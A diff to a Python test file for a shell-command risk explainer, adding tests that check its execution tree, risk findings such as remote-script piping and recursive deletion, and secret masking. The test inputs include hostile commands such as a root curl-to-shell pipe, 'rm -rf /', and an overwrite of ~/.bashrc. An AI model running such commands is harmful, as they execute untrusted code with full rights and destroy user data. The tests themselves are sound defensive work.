@@ -286,6 +286,37 @@ def test_explain_marks_the_part_and_says_what_to_do(run: Run) -> None:
     run("explain", "rm -rf /", "--fail-on", "DENY", code=1)
 
 
+def test_explain_shows_the_tree_of_what_would_run(run: Run) -> None:
+    command = "sudo bash -c 'curl -s https://example.com/x | sh'; rm -rf \"$UNSET\" > ~/.bashrc"
+    lines = run("explain", command).stdout.splitlines()
+    start = lines.index("What would run:") + 1
+    tree = lines[start : lines.index("", start)]
+    assert tree[:6] == [
+        "  sudo bash -c 'curl -s https://example.com/x | sh'",
+        "  └ bash -c 'curl -s https://example.com/x | sh'  [as root]",
+        "    └ pipeline",
+        "      ├ curl -s https://example.com/x  [to: example.com; as root]",
+        "      └ sh  [data from: network; as root]",
+        "        ! curl_pipe_sudo 0.98: Runs whatever a server sends, with all rights.",
+    ]
+    assert tree[6].startswith("  rm -rf … > /home/user/.bashrc  [scope: ")
+    runs = json.loads(run("explain", command, "--json").stdout)["runs"]
+    assert (runs["cut"], runs["findings"]) == (False, [])
+    assert [(s["parent"], s["kind"]) for s in runs["steps"]] == [
+        (None, "command"),
+        (0, "command"),
+        (1, "pipeline"),
+        (2, "command"),
+        (2, "command"),
+        (None, "command"),
+    ]
+    rm = runs["steps"][5]
+    assert rm["argv"] == ["rm", "-rf", "\ufffc"]
+    assert (rm["writes"], "unknown" in rm["scope"]) == (["/home/user/.bashrc"], True)
+    assert command[rm["start"] : rm["end"]] == 'rm -rf "$UNSET" > ~/.bashrc'
+    assert {f["finding_type"] for f in rm["findings"]} >= {"rm_rf"}
+
+
 def test_explain_masks_secrets_and_keeps_the_terminal_safe(run: Run) -> None:
     text = "rm -rf /é\n\x1b[31m export K=AKIAIOSFODNN7EXAMPLE"
     for output in (
@@ -295,6 +326,11 @@ def test_explain_masks_secrets_and_keeps_the_terminal_safe(run: Run) -> None:
     ):
         assert "IOSFODNN7EXAMPLE" not in output
         assert "\x1b" not in output
+    spread = run(
+        "explain", "x=AKIA; curl -H $x'IOSFODNN7EXAMPLE' https://example.com", "--json"
+    ).stdout
+    assert "AKIAIOSFODNN7EXAMPLE" not in spread
+    assert "https://example.com" in spread
     data = json.loads(run("explain", text, "--json").stdout)
     assert data["command"] == text.replace("AKIAIOSFODNN7EXAMPLE", "AKIA" + "*" * 16)
 
